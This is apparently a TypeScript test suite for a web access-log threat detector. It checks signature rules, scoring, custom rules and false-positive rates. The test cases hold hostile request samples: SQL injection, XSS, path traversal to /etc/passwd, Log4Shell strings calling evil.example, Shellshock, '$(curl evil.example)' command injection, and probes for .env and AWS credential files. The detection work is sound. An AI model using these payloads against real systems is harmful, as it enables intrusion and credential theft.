import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tmpDir } from '../../../test/helpers/tmp.js';
import { generateAccessLog } from '../../generator/index.js';
import { getFormat } from '../../formats/index.js';
import { SCANNER_AGENTS } from '../../generator/user-agents.js';
import { ThreatConfig, ThreatStage, threatStageSpec } from './index.js';
import { builtinRulesFile, loadRulesFile } from './load-rules.js';

const stage = (config: unknown = {}): ThreatStage => threatStageSpec.create('threat', ThreatConfig.parse(config)) as ThreatStage;
const req = (path: string, query: string | null = null, extra: Record<string, unknown> = {}) => ({ path, query, user_agent: 'Mozilla/5.0', referer: null, ...extra });

// Every shipped signature: requests it must flag, and look-alikes it must not.
const CASES: Readonly<Record<string, { pos: readonly Record<string, unknown>[]; neg: readonly Record<string, unknown>[] }>> = {
  'sqli.union-select': { pos: [req('/item', "id=1 UNION SELECT username,password FROM users"), req('/item', 'id=1%20union%20all%20select%201,2')], neg: [req('/docs/union-select-guide'), req('/search', 'q=union+station')] },
  'sqli.tautology': { pos: [req('/login', "user=admin' OR '1'='1"), req('/item', 'id=1 or 1=1')], neg: [req('/search', 'q=rock+or+roll'), req('/p', "name=o'brien")] },
  'sqli.time-based': { pos: [req('/item', 'id=1;SELECT pg_sleep(10)'), req('/item', "id=1' AND SLEEP(5)--"), req('/x', 'q=1;waitfor delay \'0:0:5\'')], neg: [req('/blog/sleep-tips'), req('/benchmark')] },
  'sqli.schema-probe': { pos: [req('/item', 'id=1 union select table_name from information_schema.tables')], neg: [req('/docs/schema')] },
  'xss.script': { pos: [req('/search', 'q=<script>alert(1)</script>'), req('/p', 'x=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'), req('/r', 'u=javascript:alert(document.cookie)')], neg: [req('/js/script.js'), req('/search', 'q=javascript+tutorial')] },
  'traversal.dot-dot': { pos: [req('/download', 'file=../../../../etc/passwd'), req('/static/..%2f..%2f..%2fetc/passwd'), req('/x', 'f=%252e%252e%252f%252e%252e%252fboot.ini')], neg: [req('/a/../b'), req('/docs/etc/passwords-policy')] },
  'rce.log4shell': { pos: [req('/', null, { user_agent: '${jndi:ldap://evil.example/a}' }), req('/x', 'q=${${lower:j}ndi:rmi://x/y}'), req('/', null, { referer: '${jndi:dns://x}' })], neg: [req('/', null, { user_agent: 'Mozilla/5.0 ${app} (template)' })] },
  'rce.shellshock': { pos: [req('/cgi-bin/status', null, { user_agent: '() { :; }; /bin/bash -c "cat /etc/passwd"' })], neg: [req('/', null, { user_agent: 'Mozilla/5.0 (X11; Linux x86_64)' })] },
  'rce.command-injection': { pos: [req('/ping', 'host=127.0.0.1;cat /etc/passwd'), req('/ping', 'host=$(curl evil.example)'), req('/x', 'h=a|id')], neg: [req('/ping', 'host=example.com'), req('/q', 'cat=shoes&sort=asc')] },
  'probe.secrets': { pos: [req('/.env'), req('/.git/config'), req('/.aws/credentials'), req('/wp-config.php.bak')], neg: [req('/environment'), req('/git/guide'), req('/wp-config-guide')] },
  'probe.admin': { pos: [req('/wp-login.php'), req('/phpmyadmin/index.php'), req('/cgi-bin/test.cgi'), req('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php')], neg: [req('/blog/wp-tips'), req('/admin-guide')] },
  'tool.attack-agent': { pos: [req('/', null, { user_agent: 'sqlmap/1.7.11#stable (https://sqlmap.org)' }), req('/', null, { user_agent: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)' })], neg: [req('/', null, { user_agent: 'Mozilla/5.0 (Windows NT 10.0) Chrome/120.0' })] },
};

describe('threat signatures', () => {
  const s = stage();
  it('every shipped signature has cases', () => {
    assert.deepEqual([...s.ruleIds].sort(), Object.keys(CASES).sort());
  });
  for (const [id, { pos, neg }] of Object.entries(CASES)) {
    it(`${id}: flags its attacks and not its look-alikes`, () => {
      for (const r of pos) assert.ok(s.match(r).some((m) => m.id === id), `${id} should match ${JSON.stringify(r)}`);
      for (const r of neg) assert.ok(!s.match(r).some((m) => m.id === id), `${id} should not match ${JSON.stringify(r)}`);
    });
  }

  it('scores, tags and names matches; clean requests score 0 with null tags', () => {
    const recs = [req('/x', "id=1 UNION SELECT 1;${jndi:ldap://a}"), req('/index.html')].map((r, i) => ({ ...r, source_line: i + 1, source_offset: i }));
    s.process({ meta: { source: 's', uri: 'u', stream: 'st' }, records: recs, raws: ['', ''] }, {} as never);
    const [bad, ok] = recs as Record<string, unknown>[];
    assert.equal(bad!['threat_score'], 100);
    assert.equal(bad!['threat_tags'], 'log4shell,rce,sqli');
    assert.match(String(bad!['threat_rules']), /sqli\.union-select/);
    assert.deepEqual([ok!['threat_score'], ok!['threat_tags'], ok!['threat_rules']], [0, null, null]);
  });

  it('user rules from files and inline; disable; bad rules are config errors naming the file', (t) => {
    const dir = tmpDir(t);
    const file = join(dir, 'mine.yaml');
    writeFileSync(file, 'rules:\n  - id: app.debug-endpoint\n    severity: medium\n    tags: [exposure]\n    fields: [path]\n    pattern: "^/debug/"\n');
    const mine = stage({ rules_files: [file], rules: [{ id: 'app.old-api', severity: 'low', tags: ['legacy'], fields: ['path'], pattern: '^/api/v0/' }], disable: ['probe.admin'] });
    assert.deepEqual(mine.match(req('/debug/vars')).map((r) => r.id), ['app.debug-endpoint']);
    assert.deepEqual(mine.match(req('/api/v0/x')).map((r) => r.id), ['app.old-api']);
    assert.deepEqual(mine.match(req('/wp-login.php')), []);
    writeFileSync(file, 'rules:\n  - id: Bad Id\n    severity: huge\n');
    assert.throws(() => stage({ rules_files: [file] }), (e: Error & { code?: string }) => e.code === 'TRB_CONFIG_INVALID' && e.message.includes(file));
    assert.throws(() => stage({ rules: [{ id: 'sqli.tautology', severity: 'low', tags: ['x'], fields: ['path'], pattern: 'x' }] }), /defined twice/);
    assert.ok(loadRulesFile(builtinRulesFile()).length >= 12);
  });

  it('false positives on generated benign traffic stay under 0.1 %; the generator\'s scanner traffic is caught', async (t) => {
    const dir = tmpDir(t);
    const log = join(dir, 'a.log');
    await generateAccessLog({ lines: 20_000, seed: 31, format: 'apache_combined', malformedRatio: 0 }, log);
    const fmt = getFormat('apache_combined');
    // The generator mixes in vulnerability scanners (their agents and probe paths): those lines are
    // attacks, not benign traffic. Benign = every line whose agent is not a scanner's.
    const scannerAgents = new Set(SCANNER_AGENTS.map((a) => a.ua));
    let flagged = 0;
    let n = 0;
    let attacks = 0;
    let caught = 0;
    const examples: string[] = [];
    for (const line of readFileSync(log, 'utf8').split('\n')) {
      if (line === '') continue;
      const r = fmt.parse(line);
      if (!('record' in r) || r.record === undefined) continue;
      const rec = r.record as unknown as Record<string, unknown>;
      const hits = s.match(rec);
      if (scannerAgents.has(String(rec['user_agent'] ?? '')) || (rec['user_agent'] === null && String(rec['path']).length > 1)) {
        attacks++;
        if (hits.length > 0) caught++;
        continue;
      }
      n++;
      if (hits.length > 0) { flagged++; if (examples.length < 5) examples.push(`${hits.map((h) => h.id)}: ${line}`); }
    }
    assert.ok(n > 18_000, `benign lines: ${n}`);
    assert.ok(flagged / n < 0.001, `${flagged} of ${n} benign lines flagged:\n${examples.join('\n')}`);
    assert.ok(attacks > 100 && caught / attacks > 0.5, `scanner lines caught: ${caught} of ${attacks}`);
  });
});
